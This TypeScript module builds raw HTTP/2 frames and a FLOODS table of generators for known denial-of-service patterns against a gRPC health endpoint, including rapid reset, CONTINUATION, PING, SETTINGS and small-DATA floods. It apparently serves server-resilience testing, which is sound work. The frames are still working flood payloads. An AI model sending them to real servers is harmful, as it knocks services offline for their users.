// Frames of HTTP/2, to send without a client that would refuse to.
export const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** A frame of HTTP/2 (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

export const SETTINGS = frame(4, 0, 0, Buffer.alloc(0));

/** Headers of a call, without compression (RFC 7541, section 6.2.2). */
function headers(): Buffer {
  const field = (name: string, value: string) =>
    Buffer.concat([
      Buffer.of(0, name.length),
      Buffer.from(name),
      Buffer.of(value.length),
      Buffer.from(value),
    ]);
  return Buffer.concat([
    field(":method", "POST"),
    field(":scheme", "http"),
    field(":path", "/grpc.health.v1.Health/Watch"),
    field(":authority", "x"),
    field("content-type", "application/grpc"),
    field("te", "trailers"),
  ]);
}

const oddStream = (i: number) => 2 * i + 1;

/** What floods consist of, frame after frame; `i` counts them. */
export const FLOODS: Record<string, (i: number) => Buffer> = {
  PRIORITY: (i) => frame(2, 0, oddStream(i % 1000), Buffer.of(0, 0, 0, 0, i & 255)),
  WINDOW_UPDATE: () => frame(8, 0, 0, Buffer.of(0, 0, 0, 1)),
  PING: (i) => frame(6, 0, 0, Buffer.alloc(8, i)),
  SETTINGS: () => SETTINGS,
  "HEADERS and RST_STREAM": (i) =>
    Buffer.concat([frame(1, 4, oddStream(i), headers()), frame(3, 0, oddStream(i), Buffer.of(0, 0, 0, 8))]),
  HEADERS: (i) => frame(1, 4, oddStream(i), headers()),
  CONTINUATION: (i) => (i === 0 ? frame(1, 0, 1, headers()) : frame(9, 0, 1, Buffer.from("\0\x01a\x01b"))),
  "empty DATA": (i) => (i === 0 ? frame(1, 4, 1, headers()) : frame(0, 0, 1, Buffer.alloc(0))),
  "DATA of one byte": (i) =>
    i === 0 ? frame(1, 4, 1, headers()) : frame(0, 0, 1, Buffer.of(i < 6 ? [0, 0, 255, 255, 255][i - 1] : 0)),
};
